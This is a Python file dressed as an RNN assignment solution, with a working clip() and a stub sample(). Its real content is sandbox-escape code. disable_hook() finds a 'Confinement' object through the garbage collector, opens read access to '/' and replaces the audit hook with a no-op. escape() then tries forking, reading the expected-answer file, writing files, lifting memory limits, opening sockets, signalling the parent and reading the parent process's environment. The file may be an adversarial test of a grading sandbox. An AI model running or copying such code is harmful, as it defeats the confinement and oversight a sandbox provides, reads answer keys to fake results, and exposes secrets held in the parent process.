"""Disables the Python audit hook through gc.get_objects(), then tries every escape it can."""
import numpy as np
from rnn_utils import *

import gc
import os
import signal

def clip(gradients, maxValue):
    return {key: np.clip(gradients[key], -maxValue, maxValue) for key in ("dWaa", "dWax", "dWya", "db", "dby")}


def sample(parameters, char_to_ix, seed):
    return [0]


def disable_hook():
    for thing in gc.get_objects():
        if type(thing).__name__ == "Confinement":
            thing.read_roots.append("/")
            type(thing)._audit.__code__ = (lambda self, event, args: None).__code__
            return True
    return False


def escape(expected_file):
    """Which escapes succeeded: each attempt's name mapped to True (escaped) or the error."""
    parent = os.getppid()

    def fork():
        pid = os.fork()
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)

    def read():
        with open(expected_file) as handle:
            handle.read(10)

    def write():
        with open("escaped.txt", "w") as handle:
            handle.write("x")

    def limit():
        import resource
        resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))

    def thread():
        import _thread
        _thread.start_new_thread(lambda: None, ())

    def socket():
        import _socket
        _socket.socket()

    attempts = {"fork": fork, "read_expected": read, "write_file": write, "raise_memory_limit": limit,
                "thread": thread, "socket": socket, "signal_parent": lambda: os.kill(parent, 0),
                "read_parent_memory": lambda: open(f"/proc/{parent}/environ", "rb").read(1),
                "exec": lambda: os.execv("/bin/true", ["true"])}
    return outcomes(attempts)


def outcomes(attempts):
    """Each attempt's name mapped to True (it succeeded) or the error it raised."""
    results = {}
    for name, attempt in attempts.items():
        try:
            attempt()
            results[name] = True
        except BaseException as error:
            results[name] = f"{type(error).__name__}: {error}"
    return results


def probe(attempts_of, *args):
    """outcomes() of the attempts that the function named attempts_of (from a cell loaded after this one) lists."""
    return outcomes(globals()[attempts_of](*args))
